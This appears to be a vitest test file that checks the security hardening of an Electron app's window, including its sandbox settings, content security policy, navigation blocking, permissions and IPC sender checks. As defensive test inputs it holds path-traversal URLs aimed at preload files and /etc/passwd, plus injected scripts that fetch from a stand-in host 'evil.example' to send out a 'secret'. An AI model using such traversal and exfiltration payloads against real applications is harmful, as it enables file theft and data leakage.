import { join } from 'node:path'

import type { Browser } from 'playwright-core'
import { afterAll, beforeAll, expect, it } from 'vitest'

import { launchChromium } from '../e2e/support/bollard.ts'
import { describeWith } from '../peers/need.ts'
import { useTempFolder } from '../peers/temp-folder.ts'
import { call, smallApp, startDoubleApp, type DoubleApp } from './double-app.ts'

const folder = useTempFolder()

describeWith(['chromium'], 'the window of the desktop application', () => {
  let browser: Browser
  let app: DoubleApp
  beforeAll(async () => {
    browser = await launchChromium()
    const appPath = await smallApp(join(folder(), 'app'))
    app = await startDoubleApp(browser, join(folder(), 'home'), { appPath })
  })
  afterAll(async () => {
    await app.close()
    await browser.close()
  })

  it('has every wall of Electron up, and says so', () => {
    expect(app.window.options.webPreferences).toEqual({
      preload: join(folder(), 'app', 'dist', 'preload', 'preload.cjs'),
      contextIsolation: true,
      sandbox: true,
      nodeIntegration: false,
      nodeIntegrationInWorker: false,
      nodeIntegrationInSubFrames: false,
      webSecurity: true,
      allowRunningInsecureContent: false,
      experimentalFeatures: false,
      webviewTag: false,
      navigateOnDragDrop: false,
      devTools: true,
    })
  })

  it('is shown once there is something to see', () => {
    expect(app.window.options.show).toBe(false)
    expect(app.window.visible).toBe(true)
  })

  it('sandboxes all pages, and makes its scheme known with few rights, before the app is ready', () => {
    const ready = app.double.log.indexOf('ready')
    for (const step of ['enableSandbox', 'registerSchemesAsPrivileged', 'requestSingleInstanceLock']) {
      expect(app.double.log.slice(0, ready).filter((each) => each === step)).toEqual([step])
    }
    expect(app.double.schemes).toEqual([
      { scheme: 'app', privileges: { standard: true, secure: true, supportFetchAPI: true, codeCache: true } },
    ])
  })

  it('is served with a content security policy, and nothing else of the disk is served', async () => {
    const answer = await app.double.request('app://bollard/index.html')
    expect(answer?.status).toBe(200)
    const headers = Object.fromEntries(answer?.headers ?? [])
    const nonce = /'nonce-([\w+/]{22}==)'/.exec(headers['content-security-policy'] ?? '')?.[1] ?? 'none'
    expect(headers).toEqual({
      'content-type': 'text/html; charset=utf-8',
      'content-security-policy':
        `default-src 'none'; script-src 'self'; style-src 'self' 'nonce-${nonce}'; img-src 'self' data: blob:; ` +
        "font-src 'self'; connect-src 'self'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'",
      'x-content-type-options': 'nosniff',
      'referrer-policy': 'no-referrer',
      'cross-origin-opener-policy': 'same-origin',
    })
    const refused = [
      'app://bollard/../preload/preload.cjs',
      'app://bollard/%2e%2e/preload/preload.cjs',
      'app://bollard/..%2f..%2fpackage.json',
      'app://bollard/etc/passwd',
      'app://other/index.html',
      'app://bollard.evil/index.html',
    ]
    for (const url of refused) expect([url, (await app.double.request(url))?.status]).toEqual([url, 404])
    expect((await app.double.request('app://bollard/index.html', 'POST'))?.status).toBe(404)
  })

  it('runs its own scripts and no injected one', async () => {
    expect(await app.page.evaluate('window.scriptRan')).toBe(true)
    expect(await app.page.evaluate('[window.inlineRan, window.handlerRan]')).toEqual([undefined, undefined])
    const injected = `new Promise((resolve) => {
      const blocked = []
      document.addEventListener('securitypolicyviolation', (event) => {
        blocked.push(event.effectiveDirective)
        if (blocked.length === 4) resolve(blocked.sort())
      })
      const add = (tag, attributes) => document.body.append(Object.assign(document.createElement(tag), attributes))
      add('script', { textContent: 'window.inlineRan = true' })
      add('script', { src: 'https://evil.example/x.js' })
      add('iframe', { src: 'https://evil.example/' })
      fetch('https://evil.example/?secret').catch(() => undefined)
    })`
    expect(await app.page.evaluate(injected)).toEqual([
      'connect-src',
      'frame-src',
      'script-src-elem',
      'script-src-elem',
    ])
    expect(await app.page.evaluate('window.inlineRan')).toBeUndefined()
  })

  it('has the members of the host and nothing of Node or Electron', async () => {
    expect(await app.page.evaluate('Object.keys(window.host).sort()')).toEqual([
      'browseFolder',
      'chooseFolder',
      'dragOut',
      'kind',
      'onClose',
      'onMessage',
      'opened',
      'send',
      'sinkFor',
      'tokenOf',
    ])
    expect(await app.page.evaluate('[window.host.kind, Object.isFrozen(window.host)]')).toEqual([
      'electron',
      true,
    ])
    const globals = ['require', 'process', 'module', 'Buffer', 'electron', 'ipcRenderer']
    expect(await app.page.evaluate(`${JSON.stringify(globals)}.filter((name) => name in window)`)).toEqual([])
  })

  it('is answered by main', async () => {
    expect(await call(app.page, 'hostInfo', {})).toEqual({
      host: 'electron',
      platform: process.platform,
      version: '9.9.9',
      secrets: 'keychain',
      demo: false,
      commit: expect.stringMatching(/^(?:[0-9a-f]{12})?$/),
      dataFolder: join(app.home, 'userData'),
      runtime: { node: process.versions.node },
    })
    expect(app.window.errors.filter((error) => error.startsWith('preload'))).toEqual([])
  })

  it('hands the page messages, and no event of Electron', async () => {
    const parts = `new Promise((resolve) => {
      const stop = host.onMessage((...args) => { stop(); resolve(args.map((arg) => Object.keys(arg).sort())) })
      host.send({ kind: 'call', id: 9000, method: 'getSettings', input: {} })
    })`
    expect(await app.page.evaluate(parts)).toEqual([['id', 'kind', 'value']])
  })

  it('stays at its own address', async () => {
    await app.page.evaluate('location.assign("https://evil.example/?stolen")')
    await expect
      .poll(() => app.window.navigations.at(-1))
      .toEqual({
        url: 'https://evil.example/?stolen',
        prevented: true,
      })
    // Polled: for the moment a refused navigation takes to end, the tool tells of that in the title's place.
    await expect.poll(() => app.page.title()).toBe('A small page')
    for (const event of ['will-navigate', 'will-redirect', 'will-frame-navigate'])
      for (const url of [
        'https://evil.example/',
        'file:///etc/passwd',
        'app://bollard.evil/',
        'app:bollard',
        '',
      ]) {
        expect([event, url, prevents(event, { url })]).toEqual([event, url, true])
      }
    expect(prevents('will-navigate', { url: 'app://bollard/index.html#/files' })).toBe(false)
  })

  it('opens no other window, and in the browser only pages that help', async () => {
    await app.page.evaluate('void window.open("https://evil.example/")')
    await expect.poll(() => app.window.opened).toEqual([{ url: 'https://evil.example/', action: 'deny' }])
    const help = 'https://distribution.github.io/distribution/'
    await app.page.evaluate(`void window.open(${JSON.stringify(help)})`)
    await expect.poll(() => app.window.opened.at(-1)).toEqual({ url: help, action: 'deny' })
    for (const url of ['http://distribution.github.io/', 'https://distribution.github.io.evil.example/'])
      await app.page.evaluate(`void window.open(${JSON.stringify(url)})`)
    await expect.poll(() => app.window.opened.length).toBe(4)
    expect(app.window.opened.every(({ action }) => action === 'deny')).toBe(true)
    expect(app.double.openedExternal).toEqual([help])
  })

  it('embeds no other contents', () => {
    expect(prevents('will-attach-webview', {})).toBe(true)
  })

  it('may write to the clipboard, and is denied every other permission', () => {
    const { permissionRequest, permissionCheck, devicePermission } = app.double
    const permissions = [
      'clipboard-sanitized-write',
      'clipboard-read',
      'media',
      'geolocation',
      'notifications',
      'openExternal',
      'fullscreen',
      'fileSystem',
      'usb',
      'unknown',
    ] as const
    const requested = permissions.filter((permission) => {
      let given = false
      permissionRequest?.({} as never, permission, (granted) => (given = granted), {} as never)
      return given
    })
    const checked = permissions.filter((permission) =>
      permissionCheck?.(null, permission as never, '', {} as never),
    )
    expect(requested).toEqual(['clipboard-sanitized-write'])
    expect(checked).toEqual(['clipboard-sanitized-write'])
    expect(devicePermission?.({ deviceType: 'usb' } as never)).toBe(false)
  })

  it('is the only one that main listens to: no frame in it, no other page, no frame that has gone', async () => {
    const message = { kind: 'call', id: 9100, method: 'getSettings', input: {} }
    const send = (sender: unknown, senderFrame: { url: string; parent: unknown } | null): Promise<unknown> =>
      app.double.receive({ sender, senderFrame }, { channel: 'bollard:to-host', args: [message] })
    const ask = (channel: string, senderFrame: { url: string; parent: unknown } | null): Promise<unknown> =>
      app.double.receive(
        { sender: app.window.contents, senderFrame },
        { channel, args: ['/etc/passwd'], reply: 1 },
      )
    const ours = { url: 'app://bollard/index.html', parent: null }
    const strangers = [
      null,
      { ...ours, parent: ours },
      { url: 'https://evil.example/', parent: null },
      { url: 'app://bollard.evil/index.html', parent: null },
      { url: 'about:blank', parent: null },
    ]
    const answers = (): number =>
      app.window.sent.filter((sent) => (sent as { id?: number }).id === 9100).length
    for (const frame of strangers) {
      await send(app.window.contents, frame)
      await expect(ask('bollard:source-of', frame)).rejects.toThrow('refused')
      await expect(ask('bollard:sink-for', frame)).rejects.toThrow('refused')
    }
    await send({}, ours)
    await call(app.page, 'getSettings', {})
    expect(answers()).toBe(0)
    await send(app.window.contents, ours)
    await expect.poll(answers).toBe(1)
    expect(app.double.saveDialogs).toEqual([])
  })

  it('starts anew with a reload: what the page before it asked for is stopped', async () => {
    const before = app.window.sent.length
    await app.page.evaluate(
      "void host.send({ kind: 'call', id: 4000, method: 'watchStores', input: {}, credit: 8 })",
    )
    await app.page.reload()
    expect(await call(app.page, 'getSettings', {})).toEqual({ theme: 'system', language: 'system' })
    const kinds = app.window.sent.slice(before).map((sent) => (sent as { kind: string }).kind)
    expect(kinds.filter((kind) => kind === 'result')).toHaveLength(1)
  })

  it('has a menu of standard entries that open nothing', () => {
    expect(JSON.stringify(app.double.menu)).not.toContain('click')
    expect(app.double.menu.map(({ role }) => role)).toEqual(
      expect.arrayContaining(['fileMenu', 'editMenu', 'viewMenu', 'windowMenu']),
    )
  })

  function prevents(event: string, details: object): boolean {
    let prevented = false
    app.window.contents.emit(event, { ...details, preventDefault: () => (prevented = true) })
    return prevented
  }
})
